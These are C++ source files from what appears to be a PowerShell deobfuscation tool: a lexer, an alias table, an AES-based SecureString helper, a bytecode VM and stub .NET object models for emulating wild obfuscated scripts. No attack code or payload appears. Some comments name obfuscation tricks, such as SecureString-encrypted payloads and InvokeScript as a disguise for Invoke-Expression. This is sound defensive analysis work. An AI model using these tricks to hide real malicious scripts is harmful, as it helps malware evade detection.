/// AST it was compiled from, and executed by `run_chunk` against a live
/// `Interpreter`.
///
/// Semantics preservation is by construction, not by reimplementation: the
/// VM dispatches every operator through the interpreter's own value-level
/// cores (`binary_values`, `unary_value`, `convert_value`, `index_values`,
/// `variable_value`, `expand_value`), so results, EvalError messages,
/// BlockedCommandError, and LimitError kinds are bit-identical to the tree
/// walker's. Step charging is replicated exactly: the compiler emits one
/// `Tick` per `charge_step()` call site the tree walker would hit
/// (statement entry, pipeline element, expression node), so step-limit and
/// budget expiry fire after the same number of charges on either path.
///
/// Constructs the compiler does not cover — commands, member access,
/// assignments, hashtables, script blocks, `++`/`--`, multi-element
/// pipelines, multi-statement subexpressions — make `compile_piece` return
/// null and the caller falls back to the tree walker, so coverage gaps can
/// never change behavior.

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "psvalue/value.h"

namespace ps {
class Ast;
class Interpreter;
}  // namespace ps

namespace ps::bytecode {

enum class Op : std::uint8_t {
  Tick,         ///< interp.charge_step() — mirrors one tree-walk charge site
  PushConst,    ///< push constants[a]
  LoadVar,      ///< push interp.variable_value(names[a]) (raw `$` name text)
  BinOp,        ///< rhs=pop, lhs=pop, push binary_values(lhs, names[a], rhs)
  UnOp,         ///< v=pop, push unary_value(names[a], v)
  Cast,         ///< v=pop, push convert_value(names[a], v)
  Index,        ///< index=pop, target=pop, push index_values(target, index)
  Interp,       ///< push expand_value(names[a]) (expandable-string raw text)
  MakeArray,    ///< pop `a` values, push them as one Array (in push order)
  CollectLone,  ///< lone-pipeline shaping: null / empty array -> null
  ToArray,      ///< @(...) shaping: null -> @(), scalar -> @(scalar)
  AndJump,      ///< v=pop; if !v: push $false, jump to `a` (short circuit)
  OrJump,       ///< v=pop; if v: push $true, jump to `a` (short circuit)
  ToBool,       ///< v=pop, push [bool]v — the -and/-or result coercion
};

struct Insn {
  Op op;
  std::uint32_t a = 0;  ///< constant/name index, arity, or jump target
};

/// One compiled piece. Self-contained (constants and name texts are copied
/// out of the AST), so a Chunk stays valid independent of the tree it was
/// compiled from and may be shared across threads once built — it is
/// immutable after `compile_piece` returns.
struct Chunk {
  std::vector<Insn> code;
  std::vector<Value> constants;
  std::vector<std::string> names;  ///< variable/operator/type/raw-string text
  /// True when execution cannot observe interpreter state: no variable
  /// reads other than the fixed automatic constants ($true, $pshome, ...)
  /// and no interpolation that could reference a variable. A pure chunk
  /// evaluates identically in any recovery interpreter regardless of the
  /// traced-variable table, which is what lets the fold stage skip both
  /// interpreter seeding and the per-context memo fingerprint.
  bool pure = false;
  std::uint32_t max_stack = 0;  ///< operand-stack high-water mark

  [[nodiscard]] bool valid() const { return !code.empty(); }
};

/// Compiles one recoverable piece rooted at `root` (the node handed to
/// `Interpreter::evaluate`). Returns null when the piece uses a construct
/// the compiler does not cover; the caller must then tree-walk.
std::shared_ptr<Chunk> compile_piece(const Ast& root);

/// Executes `chunk` against `interp`, returning what
/// `interp.evaluate(root, src)` would have returned for the compiled node.
/// Throws exactly what the tree walker would throw (EvalError, LimitError,
/// BlockedCommandError, BudgetError via charge_step checkpoints).
Value run_chunk(const Chunk& chunk, Interpreter& interp);

}  // namespace ps::bytecode
