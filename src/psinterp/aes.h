#pragma once

/// \file aes.h
/// From-scratch AES-128/192/256 in CBC mode with PKCS#7 padding — the
/// cryptographic substrate behind ConvertTo/From-SecureString -Key, which
/// the paper's SecureString obfuscation technique (Table II) relies on.

#include <optional>

#include "psinterp/encodings.h"

namespace ps {

/// Encrypts `plain` with AES-CBC/PKCS7. `key` must be 16, 24 or 32 bytes;
/// `iv` must be 16 bytes.
ByteVec aes_cbc_encrypt(const ByteVec& plain, const ByteVec& key,
                        const ByteVec& iv);

/// Decrypts; returns nullopt on bad key size, ciphertext size, or padding.
std::optional<ByteVec> aes_cbc_decrypt(const ByteVec& cipher, const ByteVec& key,
                                       const ByteVec& iv);

namespace securestring {

/// Our ConvertFrom-SecureString -Key blob: Base64(IV(16) || AES-CBC(
/// UTF-16LE(plain))). Real PowerShell uses a proprietary DPAPI-shaped hex
/// format; the substitution is documented in DESIGN.md.
std::string protect(std::string_view plain, const ByteVec& key,
                    const ByteVec& iv);

/// ConvertTo-SecureString <blob> -Key, followed by
/// Marshal::PtrToStringAuto(Marshal::SecureStringToBSTR(...)).
std::optional<std::string> unprotect(std::string_view blob, const ByteVec& key);

}  // namespace securestring

}  // namespace ps
