#pragma once

/// \file objects.h
/// Opaque runtime object types produced by New-Object and .NET statics.
/// These model just enough of the corresponding .NET classes to execute the
/// recovery code that wild obfuscated scripts embed (paper section III-B).

#include <memory>
#include <string>

#include "psinterp/encodings.h"
#include "psvalue/value.h"

namespace ps {

/// System.Net.WebClient. Network activity is routed through the
/// interpreter's effect recorder; the object itself only carries state.
class WebClientObject final : public PsObject {
 public:
  [[nodiscard]] std::string type_name() const override {
    return "System.Net.WebClient";
  }
};

/// System.IO.MemoryStream over a byte buffer.
class MemoryStreamObject final : public PsObject {
 public:
  explicit MemoryStreamObject(ByteVec data) : data(std::move(data)) {}
  [[nodiscard]] std::string type_name() const override {
    return "System.IO.MemoryStream";
  }
  ByteVec data;
  std::size_t position = 0;
};

/// System.IO.Compression.DeflateStream wrapping a MemoryStream.
class DeflateStreamObject final : public PsObject {
 public:
  DeflateStreamObject(std::shared_ptr<MemoryStreamObject> inner, bool decompress)
      : inner(std::move(inner)), decompress(decompress) {}
  [[nodiscard]] std::string type_name() const override {
    return "System.IO.Compression.DeflateStream";
  }
  std::shared_ptr<MemoryStreamObject> inner;
  bool decompress;
};

/// System.IO.StreamReader over a stream, with a text encoding.
class StreamReaderObject final : public PsObject {
 public:
  StreamReaderObject(std::shared_ptr<PsObject> stream, TextEncoding encoding)
      : stream(std::move(stream)), encoding(encoding) {}
  [[nodiscard]] std::string type_name() const override {
    return "System.IO.StreamReader";
  }
  std::shared_ptr<PsObject> stream;
  TextEncoding encoding;
};

/// System.Security.SecureString; `plain` is the protected text.
class SecureStringObject final : public PsObject {
 public:
  explicit SecureStringObject(std::string plain) : plain(std::move(plain)) {}
  [[nodiscard]] std::string type_name() const override {
    return "System.Security.SecureString";
  }
  std::string plain;
};

/// The BSTR pointer produced by Marshal::SecureStringToBSTR.
class BstrObject final : public PsObject {
 public:
  explicit BstrObject(std::string plain) : plain(std::move(plain)) {}
  [[nodiscard]] std::string type_name() const override { return "System.IntPtr"; }
  std::string plain;
};

/// [Text.Encoding]::Unicode / UTF8 / ASCII instances.
class EncodingObject final : public PsObject {
 public:
  explicit EncodingObject(TextEncoding enc) : enc(enc) {}
  [[nodiscard]] std::string type_name() const override {
    switch (enc) {
      case TextEncoding::Ascii: return "System.Text.ASCIIEncoding";
      case TextEncoding::Utf8: return "System.Text.UTF8Encoding";
      case TextEncoding::Unicode: return "System.Text.UnicodeEncoding";
      case TextEncoding::BigEndianUnicode: return "System.Text.UnicodeEncoding";
    }
    return "System.Text.Encoding";
  }
  TextEncoding enc;
};

/// System.Random with a deterministic default seed (reproducible runs).
class RandomObject final : public PsObject {
 public:
  explicit RandomObject(std::uint64_t seed = 0x9E3779B97F4A7C15ull) : state(seed) {}
  [[nodiscard]] std::string type_name() const override { return "System.Random"; }
  std::uint64_t state;

  std::int64_t next(std::int64_t lo, std::int64_t hi) {
    state = state * 6364136223846793005ull + 1442695040888963407ull;
    const std::uint64_t x = state >> 17;
    if (hi <= lo) return lo;
    return lo + static_cast<std::int64_t>(
                    x % static_cast<std::uint64_t>(hi - lo));
  }
};

/// System.Net.Sockets.TcpClient (connection recorded, no real socket).
class TcpClientObject final : public PsObject {
 public:
  TcpClientObject(std::string host, int port) : host(std::move(host)), port(port) {}
  [[nodiscard]] std::string type_name() const override {
    return "System.Net.Sockets.TcpClient";
  }
  std::string host;
  int port;
};

/// $ExecutionContext.InvokeCommand — the engine-intrinsics object whose
/// InvokeScript method is a well-known Invoke-Expression disguise.
class InvokeCommandObject final : public PsObject {
 public:
  [[nodiscard]] std::string type_name() const override {
    return "System.Management.Automation.CommandInvocationIntrinsics";
  }
};

/// $ExecutionContext.
class ExecutionContextObject final : public PsObject {
 public:
  [[nodiscard]] std::string type_name() const override {
    return "System.Management.Automation.EngineIntrinsics";
  }
};

/// System.Diagnostics.Process handle returned by Start-Process -PassThru.
class ProcessObject final : public PsObject {
 public:
  explicit ProcessObject(std::string command_line)
      : command_line(std::move(command_line)) {}
  [[nodiscard]] std::string type_name() const override {
    return "System.Diagnostics.Process";
  }
  std::string command_line;
};

}  // namespace ps
