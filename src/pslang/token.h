#pragma once

/// \file token.h
/// Lexical token model mirroring the attributes exposed by Microsoft's
/// System.Management.Automation.PSParser tokens (type, content, start,
/// length, line, column), which the paper's token-parsing phase consumes.

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace ps {

/// Token categories, closely following PSTokenType.
enum class TokenType {
  Unknown,
  Command,             ///< command name position (e.g. `Write-Host`, `iex`)
  CommandParameter,    ///< `-Name`-style parameter of a command
  CommandArgument,     ///< bareword argument of a command
  Number,              ///< numeric literal
  String,              ///< any quoted string (see Token::quote)
  Variable,            ///< `$name`, `${braced}`, `$env:X`, `$_`
  Member,              ///< member name after `.` or `::`
  Type,                ///< `[TypeName]` literal (brackets included in text)
  Operator,            ///< `+`, `-f`, `|`, `=`, `..`, `::`, `.`, `,`, ...
  GroupStart,          ///< `(`, `$(`, `@(`, `@{`, `{`, index `[`
  GroupEnd,            ///< `)`, `}`, index `]`
  Keyword,             ///< `if`, `while`, `function`, ...
  Comment,             ///< `# ...` or `<# ... #>`
  StatementSeparator,  ///< `;`
  NewLine,             ///< physical line break terminating a statement
  LineContinuation,    ///< backtick-newline
};

/// How a String token was quoted in the source.
enum class QuoteKind {
  None,        ///< bareword treated as string content
  Single,      ///< '...'
  Double,      ///< "..." (may be expandable)
  HereSingle,  ///< @'...'@
  HereDouble,  ///< @"..."@
};

/// One lexical unit of a PowerShell script.
///
/// `text` is the exact raw source slice `[start, start+length)`.
/// `content` is the cooked value: ticks removed from barewords, quotes
/// stripped and escapes processed for constant strings. For expandable
/// (double-quoted) strings containing `$`, `content` holds the *raw inner*
/// text so that escape processing and interpolation can be performed
/// together at evaluation time.
struct Token {
  TokenType type = TokenType::Unknown;
  QuoteKind quote = QuoteKind::None;
  std::string text;
  std::string content;
  std::size_t start = 0;
  std::size_t length = 0;
  int line = 1;
  int column = 1;
  bool expandable = false;  ///< double-quoted string containing live `$`

  [[nodiscard]] std::size_t end() const { return start + length; }
};

/// Returns a human-readable name for a token type (for diagnostics).
std::string_view to_string(TokenType type);

using TokenStream = std::vector<Token>;

}  // namespace ps
