#pragma once

/// \file token.h
/// Lexical token model mirroring the attributes exposed by Microsoft's
/// System.Management.Automation.PSParser tokens (type, content, start,
/// length, line, column), which the paper's token-parsing phase consumes.

#include <cstddef>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "pslang/interner.h"

namespace ps {

/// Token categories, closely following PSTokenType.
enum class TokenType {
  Unknown,
  Command,             ///< command name position (e.g. `Write-Host`, `iex`)
  CommandParameter,    ///< `-Name`-style parameter of a command
  CommandArgument,     ///< bareword argument of a command
  Number,              ///< numeric literal
  String,              ///< any quoted string (see Token::quote)
  Variable,            ///< `$name`, `${braced}`, `$env:X`, `$_`
  Member,              ///< member name after `.` or `::`
  Type,                ///< `[TypeName]` literal (brackets included in text)
  Operator,            ///< `+`, `-f`, `|`, `=`, `..`, `::`, `.`, `,`, ...
  GroupStart,          ///< `(`, `$(`, `@(`, `@{`, `{`, index `[`
  GroupEnd,            ///< `)`, `}`, index `]`
  Keyword,             ///< `if`, `while`, `function`, ...
  Comment,             ///< `# ...` or `<# ... #>`
  StatementSeparator,  ///< `;`
  NewLine,             ///< physical line break terminating a statement
  LineContinuation,    ///< backtick-newline
};

/// How a String token was quoted in the source.
enum class QuoteKind {
  None,        ///< bareword treated as string content
  Single,      ///< '...'
  Double,      ///< "..." (may be expandable)
  HereSingle,  ///< @'...'@
  HereDouble,  ///< @"..."@
};

/// One lexical unit of a PowerShell script.
///
/// `text` is the exact raw source slice `[start, start+length)`.
/// `content` is the cooked value: ticks removed from barewords, quotes
/// stripped and escapes processed for constant strings. For expandable
/// (double-quoted) strings containing `$`, `content` holds the *raw inner*
/// text so that escape processing and interpolation can be performed
/// together at evaluation time.
///
/// Both fields are zero-copy views: `text` always aliases the source
/// buffer pinned by the owning TokenStream, and `content` aliases either
/// the same buffer (when cooking changed nothing) or the stream's interned
/// string table. A Token is therefore valid only as long as some
/// TokenStream sharing its buffers is alive.
struct Token {
  TokenType type = TokenType::Unknown;
  QuoteKind quote = QuoteKind::None;
  std::string_view text;
  std::string_view content;
  std::size_t start = 0;
  std::size_t length = 0;
  int line = 1;
  int column = 1;
  bool expandable = false;  ///< double-quoted string containing live `$`

  [[nodiscard]] std::size_t end() const { return start + length; }
};

/// Returns a human-readable name for a token type (for diagnostics).
std::string_view to_string(TokenType type);

/// The lexer's output: a vector of tokens plus the two buffers their views
/// point into — a pinned copy of the source text and the interned-string
/// table for cooked content. Copies and moves share the buffers (they are
/// behind shared_ptr), so tokens taken from any copy of the stream remain
/// valid as long as at least one copy lives.
class TokenStream {
 public:
  using value_type = Token;
  using iterator = std::vector<Token>::iterator;
  using const_iterator = std::vector<Token>::const_iterator;

  TokenStream() = default;
  TokenStream(std::vector<Token> tokens,
              std::shared_ptr<const std::string> source,
              std::shared_ptr<const StringInterner> interner)
      : tokens_(std::move(tokens)), source_(std::move(source)),
        interner_(std::move(interner)) {}

  [[nodiscard]] std::size_t size() const { return tokens_.size(); }
  [[nodiscard]] bool empty() const { return tokens_.empty(); }
  const Token& operator[](std::size_t i) const { return tokens_[i]; }
  [[nodiscard]] const Token& front() const { return tokens_.front(); }
  [[nodiscard]] const Token& back() const { return tokens_.back(); }

  [[nodiscard]] iterator begin() { return tokens_.begin(); }
  [[nodiscard]] iterator end() { return tokens_.end(); }
  [[nodiscard]] const_iterator begin() const { return tokens_.begin(); }
  [[nodiscard]] const_iterator end() const { return tokens_.end(); }
  [[nodiscard]] auto rbegin() const { return tokens_.rbegin(); }
  [[nodiscard]] auto rend() const { return tokens_.rend(); }

  /// The pinned source buffer token `text` views point into.
  [[nodiscard]] const std::shared_ptr<const std::string>& source() const {
    return source_;
  }
  /// The interned-string table cooked `content` views may point into.
  [[nodiscard]] const std::shared_ptr<const StringInterner>& interner() const {
    return interner_;
  }

 private:
  std::vector<Token> tokens_;
  std::shared_ptr<const std::string> source_;
  std::shared_ptr<const StringInterner> interner_;
};

}  // namespace ps
