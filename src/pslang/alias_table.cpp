#include "pslang/alias_table.h"

#include <algorithm>
#include <cctype>

namespace ps {

std::string to_lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(),
                 [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  return out;
}

bool iequals(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(a[i])) !=
        std::tolower(static_cast<unsigned char>(b[i]))) {
      return false;
    }
  }
  return true;
}

AliasTable::AliasTable() {
  // The subset of the Windows PowerShell 5.1 default alias table that is
  // relevant to wild malicious scripts and to the obfuscation techniques in
  // the paper's Table II. Pairs are (alias, canonical).
  entries_ = {
      {"iex", "Invoke-Expression"},
      {"icm", "Invoke-Command"},
      {"iwr", "Invoke-WebRequest"},
      {"irm", "Invoke-RestMethod"},
      {"curl", "Invoke-WebRequest"},
      {"wget", "Invoke-WebRequest"},
      {"%", "ForEach-Object"},
      {"foreach", "ForEach-Object"},
      {"?", "Where-Object"},
      {"where", "Where-Object"},
      {"echo", "Write-Output"},
      {"write", "Write-Output"},
      {"gal", "Get-Alias"},
      {"sal", "Set-Alias"},
      {"gc", "Get-Content"},
      {"cat", "Get-Content"},
      {"type", "Get-Content"},
      {"sc", "Set-Content"},
      {"ac", "Add-Content"},
      {"gci", "Get-ChildItem"},
      {"ls", "Get-ChildItem"},
      {"dir", "Get-ChildItem"},
      {"gi", "Get-Item"},
      {"si", "Set-Item"},
      {"ni", "New-Item"},
      {"ri", "Remove-Item"},
      {"rm", "Remove-Item"},
      {"del", "Remove-Item"},
      {"erase", "Remove-Item"},
      {"cp", "Copy-Item"},
      {"copy", "Copy-Item"},
      {"mv", "Move-Item"},
      {"move", "Move-Item"},
      {"gv", "Get-Variable"},
      {"sv", "Set-Variable"},
      {"nv", "New-Variable"},
      {"gm", "Get-Member"},
      {"gp", "Get-ItemProperty"},
      {"sp", "Set-ItemProperty"},
      {"gps", "Get-Process"},
      {"ps", "Get-Process"},
      {"saps", "Start-Process"},
      {"start", "Start-Process"},
      {"spps", "Stop-Process"},
      {"kill", "Stop-Process"},
      {"sleep", "Start-Sleep"},
      {"gsv", "Get-Service"},
      {"sasv", "Start-Service"},
      {"gwmi", "Get-WmiObject"},
      {"pwd", "Get-Location"},
      {"gl", "Get-Location"},
      {"cd", "Set-Location"},
      {"sl", "Set-Location"},
      {"chdir", "Set-Location"},
      {"select", "Select-Object"},
      {"sort", "Sort-Object"},
      {"measure", "Measure-Object"},
      {"group", "Group-Object"},
      {"tee", "Tee-Object"},
      {"compare", "Compare-Object"},
      {"diff", "Compare-Object"},
      {"sls", "Select-String"},
      {"ft", "Format-Table"},
      {"fl", "Format-List"},
      {"fw", "Format-Wide"},
      {"oh", "Out-Host"},
      {"ogv", "Out-GridView"},
      {"ihy", "Invoke-History"},
      {"r", "Invoke-History"},
      {"h", "Get-History"},
      {"history", "Get-History"},
      {"cls", "Clear-Host"},
      {"clear", "Clear-Host"},
      {"clc", "Clear-Content"},
      {"clv", "Clear-Variable"},
      {"gcm", "Get-Command"},
      {"gdr", "Get-PSDrive"},
      {"gjb", "Get-Job"},
      {"sajb", "Start-Job"},
      {"rjb", "Remove-Job"},
      {"wjb", "Wait-Job"},
      {"rcjb", "Receive-Job"},
      {"nmo", "New-Module"},
      {"ipmo", "Import-Module"},
      {"rmo", "Remove-Module"},
      {"gmo", "Get-Module"},
      {"epcsv", "Export-Csv"},
      {"ipcsv", "Import-Csv"},
      {"sbp", "Set-PSBreakpoint"},
      {"gbp", "Get-PSBreakpoint"},
      {"rbp", "Remove-PSBreakpoint"},
      {"pushd", "Push-Location"},
      {"popd", "Pop-Location"},
      {"rv", "Remove-Variable"},
      {"rd", "Remove-Item"},
      {"md", "mkdir"},
      {"ise", "powershell_ise.exe"},
      {"asnp", "Add-PSSnapin"},
      {"gsnp", "Get-PSSnapin"},
      {"rsnp", "Remove-PSSnapin"},
  };

  // Canonical cmdlets with no alias that is_known_cmdlet must still accept.
  known_extra_ = {
      "invoke-expression", "write-host",       "write-output",
      "new-object",        "start-sleep",      "start-process",
      "invoke-webrequest", "invoke-restmethod", "set-content",
      "get-content",       "out-null",         "out-string",
      "out-file",          "convertto-securestring",
      "convertfrom-securestring",              "get-variable",
      "set-variable",      "restart-computer", "stop-computer",
      "get-random",        "get-date",         "join-path",
      "split-path",        "test-path",        "new-itemproperty",
      "set-itemproperty",  "get-itemproperty", "add-type",
      "invoke-item",       "get-host",         "write-error",
      "write-warning",     "write-verbose",    "write-debug",
      "read-host",         "clear-host",       "foreach-object",
      "where-object",      "select-object",    "sort-object",
      "measure-object",    "powershell",       "powershell.exe",
      "pwsh",              "cmd",              "cmd.exe",
      "mkdir",             "invoke-command",
  };
}

const AliasTable& AliasTable::standard() {
  static const AliasTable table;
  return table;
}

std::optional<std::string> AliasTable::resolve(std::string_view alias) const {
  for (const auto& [a, c] : entries_) {
    if (iequals(a, alias)) return c;
  }
  return std::nullopt;
}

std::optional<std::string> AliasTable::alias_for(std::string_view cmdlet) const {
  std::optional<std::string> best;
  for (const auto& [a, c] : entries_) {
    if (iequals(c, cmdlet)) {
      if (!best || a.size() < best->size()) best = a;
    }
  }
  return best;
}

bool AliasTable::is_known_cmdlet(std::string_view name) const {
  const std::string lower = to_lower(name);
  for (const auto& extra : known_extra_) {
    if (extra == lower) return true;
  }
  for (const auto& [a, c] : entries_) {
    if (iequals(c, name)) return true;
  }
  return false;
}

}  // namespace ps
