#pragma once

/// \file alias_table.h
/// The default PowerShell alias table used by the token-parsing phase to
/// expand aliases back to canonical cmdlet names (paper section III-A), and
/// by the obfuscator to do the reverse.

#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace ps {

/// Case-insensitive mapping between PowerShell default aliases and their
/// canonical cmdlet names (e.g. `iex` -> `Invoke-Expression`).
class AliasTable {
 public:
  /// Returns the process-wide default table (immutable).
  static const AliasTable& standard();

  /// Canonical cmdlet name for `alias`, or nullopt if not an alias.
  [[nodiscard]] std::optional<std::string> resolve(std::string_view alias) const;

  /// Some alias (the shortest) for a canonical cmdlet name, or nullopt.
  [[nodiscard]] std::optional<std::string> alias_for(std::string_view cmdlet) const;

  /// True if `name` (case-insensitive) is a known canonical cmdlet name.
  [[nodiscard]] bool is_known_cmdlet(std::string_view name) const;

  /// All (alias, cmdlet) pairs, for enumeration by tests and the obfuscator.
  [[nodiscard]] const std::vector<std::pair<std::string, std::string>>& entries() const {
    return entries_;
  }

 private:
  AliasTable();
  std::vector<std::pair<std::string, std::string>> entries_;
  std::vector<std::string> known_extra_;
};

/// ASCII-lowercases a string (PowerShell identifiers are case-insensitive).
std::string to_lower(std::string_view s);

/// Case-insensitive ASCII string equality.
bool iequals(std::string_view a, std::string_view b);

}  // namespace ps
