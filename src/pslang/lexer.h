#pragma once

/// \file lexer.h
/// A mode-tracking PowerShell tokenizer equivalent to PSParser::Tokenize.
///
/// PowerShell lexing is context sensitive: a bareword at the start of a
/// statement is a command name, while the same characters after an operand
/// may be an operator or member name. The lexer tracks a small mode stack
/// (statement-start / command arguments / expression) that mirrors how the
/// real tokenizer resolves this, which is exactly the information the
/// paper's token-parsing deobfuscation phase needs.

#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "pslang/token.h"

namespace ps {

/// Thrown on irrecoverable lexical errors (e.g. unterminated string).
class LexError : public std::runtime_error {
 public:
  LexError(std::string message, std::size_t offset)
      : std::runtime_error(std::move(message)), offset(offset) {}
  std::size_t offset;
};

/// Tokenizes `source` into a PSParser-style token stream.
/// Comments are included in the stream (type Comment); callers that do not
/// care should filter them. Throws LexError on malformed input.
TokenStream tokenize(std::string_view source);

/// Like tokenize() but never throws: on error returns the tokens produced
/// so far and sets `ok` to false.
TokenStream tokenize_lenient(std::string_view source, bool& ok);

/// True if `word` is a PowerShell language keyword (case-insensitive).
bool is_keyword(std::string_view word);

/// True if `word` (without the leading dash) is a named operator such as
/// `f`, `join`, `eq`, `bxor` (case-insensitive).
bool is_named_operator(std::string_view word);

}  // namespace ps
