#pragma once

/// \file interner.h
/// Small interned-string table backing the zero-copy token stream.
///
/// Most tokens' cooked content is byte-identical to a slice of the source
/// buffer, so their `content` view aliases the pinned source and costs
/// nothing. The minority that genuinely differ — ticked barewords,
/// escape-processed strings, lowercased keywords/operators — are interned
/// here once per distinct spelling and viewed from then on. Obfuscated
/// scripts repeat the same handful of cooked spellings thousands of times
/// (`iex`, `-join`, unescaped fragments), which is exactly the shape a
/// dedup table wins on.
///
/// Thread model: filled by one lexer; afterwards the table is immutable
/// and may be read (through the views) from any thread.

#include <string>
#include <string_view>
#include <unordered_set>

namespace ps {

class StringInterner {
 public:
  /// Returns a stable view of `s`, inserting it on first sight. Views stay
  /// valid for the interner's lifetime (entries are never erased and the
  /// set is node-based, so rehashing does not move strings).
  std::string_view intern(std::string_view s) {
    auto it = strings_.find(s);
    if (it == strings_.end()) {
      it = strings_.emplace(s).first;
    }
    return *it;
  }

  [[nodiscard]] std::size_t size() const { return strings_.size(); }

 private:
  struct Hash {
    using is_transparent = void;
    std::size_t operator()(std::string_view s) const {
      return std::hash<std::string_view>{}(s);
    }
  };
  std::unordered_set<std::string, Hash, std::equal_to<>> strings_;
};

}  // namespace ps
