#include "pslang/lexer.h"

#include <array>
#include <cctype>

#include "pslang/alias_table.h"

namespace ps {

std::string_view to_string(TokenType type) {
  switch (type) {
    case TokenType::Unknown: return "Unknown";
    case TokenType::Command: return "Command";
    case TokenType::CommandParameter: return "CommandParameter";
    case TokenType::CommandArgument: return "CommandArgument";
    case TokenType::Number: return "Number";
    case TokenType::String: return "String";
    case TokenType::Variable: return "Variable";
    case TokenType::Member: return "Member";
    case TokenType::Type: return "Type";
    case TokenType::Operator: return "Operator";
    case TokenType::GroupStart: return "GroupStart";
    case TokenType::GroupEnd: return "GroupEnd";
    case TokenType::Keyword: return "Keyword";
    case TokenType::Comment: return "Comment";
    case TokenType::StatementSeparator: return "StatementSeparator";
    case TokenType::NewLine: return "NewLine";
    case TokenType::LineContinuation: return "LineContinuation";
  }
  return "?";
}

bool is_keyword(std::string_view word) {
  static const std::array<std::string_view, 26> kw = {
      "if",     "elseif",  "else",   "while",  "for",     "foreach", "function",
      "filter", "return",  "break",  "continue", "do",    "until",   "switch",
      "param",  "begin",   "process", "end",   "try",     "catch",   "finally",
      "throw",  "trap",    "in",     "class",  "enum"};
  for (auto k : kw) {
    if (iequals(k, word)) return true;
  }
  return false;
}

bool is_named_operator(std::string_view word) {
  static const std::array<std::string_view, 46> ops = {
      "f",      "join",   "split",     "replace",  "creplace", "ireplace",
      "eq",     "ne",     "gt",        "lt",       "ge",       "le",
      "ceq",    "cne",    "ieq",       "ine",      "like",     "notlike",
      "clike",  "ilike",  "match",     "notmatch", "cmatch",   "imatch",
      "contains", "notcontains", "in", "notin",    "and",      "or",
      "xor",    "not",    "band",      "bor",      "bxor",     "bnot",
      "shl",    "shr",    "is",        "isnot",    "as",       "csplit",
      "isplit", "cjoin",  "ijoin",     "ne"};
  for (auto o : ops) {
    if (iequals(o, word)) return true;
  }
  return false;
}

namespace {

bool is_ident_start(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) || c == '_';
}
bool is_ident_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) || c == '_';
}

bool is_scope_prefix(std::string_view s) {
  return iequals(s, "global") || iequals(s, "local") || iequals(s, "script") ||
         iequals(s, "private") || iequals(s, "using") || iequals(s, "variable") ||
         iequals(s, "env");
}

/// Characters that terminate a bareword in command-argument position.
bool ends_command_word(char c) {
  switch (c) {
    case ' ': case '\t': case '\r': case '\n':
    case ';': case '|': case '&': case '(': case ')':
    case '{': case '}': case '<': case '>': case '#':
    case '\'': case '"': case '$': case ',':
      return true;
    default:
      return false;
  }
}

/// Characters allowed in an expression-position bareword (member names,
/// keywords, named-operator words).
bool is_word_char(char c) {
  return is_ident_char(c) || c == '-';
}

char escape_char(char c) {
  switch (c) {
    case 'n': return '\n';
    case 't': return '\t';
    case 'r': return '\r';
    case '0': return '\0';
    case 'a': return '\a';
    case 'b': return '\b';
    case 'f': return '\f';
    case 'v': return '\v';
    case 'e': return '\x1b';
    default: return c;  // `` ` ``, `'`, `"`, `$`, and anything else: literal
  }
}

class Lexer {
 public:
  /// The lexer pins its own copy of the source; every emitted token views
  /// that copy (or the interner), never the caller's buffer.
  Lexer(std::string_view src, bool lenient)
      : pinned_(std::make_shared<const std::string>(src)),
        interner_(std::make_shared<StringInterner>()),
        src_(*pinned_), lenient_(lenient) {}

  TokenStream run(bool& ok) {
    ok = true;
    try {
      while (pos_ < src_.size()) {
        lex_one();
      }
    } catch (const LexError&) {
      if (!lenient_) throw;
      ok = false;
    }
    return TokenStream(std::move(out_), std::move(pinned_),
                       std::move(interner_));
  }

 private:
  enum class Mode { StatementStart, Command, Expression };

  struct Frame {
    char closer;
    Mode saved_mode;
  };

  std::shared_ptr<const std::string> pinned_;
  std::shared_ptr<StringInterner> interner_;
  std::string_view src_;
  bool lenient_;
  std::size_t pos_ = 0;
  int line_ = 1;
  int col_ = 1;
  Mode mode_ = Mode::StatementStart;
  bool after_operand_ = false;
  bool expect_member_ = false;
  bool first_command_element_ = false;
  bool after_function_kw_ = false;
  std::size_t last_token_end_ = static_cast<std::size_t>(-1);
  std::vector<Frame> stack_;
  std::vector<Token> out_;

  [[noreturn]] void fail(const std::string& msg) { throw LexError(msg, pos_); }

  char cur() const { return src_[pos_]; }
  char peek(std::size_t n = 1) const {
    return pos_ + n < src_.size() ? src_[pos_ + n] : '\0';
  }
  bool at_end() const { return pos_ >= src_.size(); }

  void advance() {
    if (src_[pos_] == '\n') {
      ++line_;
      col_ = 1;
    } else {
      ++col_;
    }
    ++pos_;
  }

  Token& emit(TokenType type, std::size_t start, int line, int col,
              std::string content) {
    Token t;
    t.type = type;
    t.start = start;
    t.length = pos_ - start;
    t.line = line;
    t.column = col;
    t.text = src_.substr(start, t.length);
    // Zero-copy content: most cooked content is byte-identical to the raw
    // slice (barewords, operators) or to the slice minus one leading quote
    // / sigil character (unescaped strings, variables); only genuinely
    // rewritten spellings (ticked words, escapes, lowercased keywords) go
    // through the interner.
    if (content.empty()) {
      t.content = std::string_view();
    } else if (content == t.text) {
      t.content = t.text;
    } else if (t.length > content.size() &&
               t.text.substr(1, content.size()) == content) {
      t.content = t.text.substr(1, content.size());
    } else {
      t.content = interner_->intern(content);
    }
    out_.push_back(t);
    last_token_end_ = pos_;
    return out_.back();
  }

  const Token* last_significant() const {
    for (auto it = out_.rbegin(); it != out_.rend(); ++it) {
      if (it->type != TokenType::Comment && it->type != TokenType::NewLine &&
          it->type != TokenType::LineContinuation) {
        return &*it;
      }
    }
    return nullptr;
  }

  void reset_statement() {
    mode_ = Mode::StatementStart;
    after_operand_ = false;
    expect_member_ = false;
    first_command_element_ = false;
  }

  void push_group(char closer) {
    stack_.push_back({closer, mode_});
    reset_statement();
  }

  void pop_group() {
    Mode saved = Mode::Expression;
    if (!stack_.empty()) {
      saved = stack_.back().saved_mode;
      stack_.pop_back();
    }
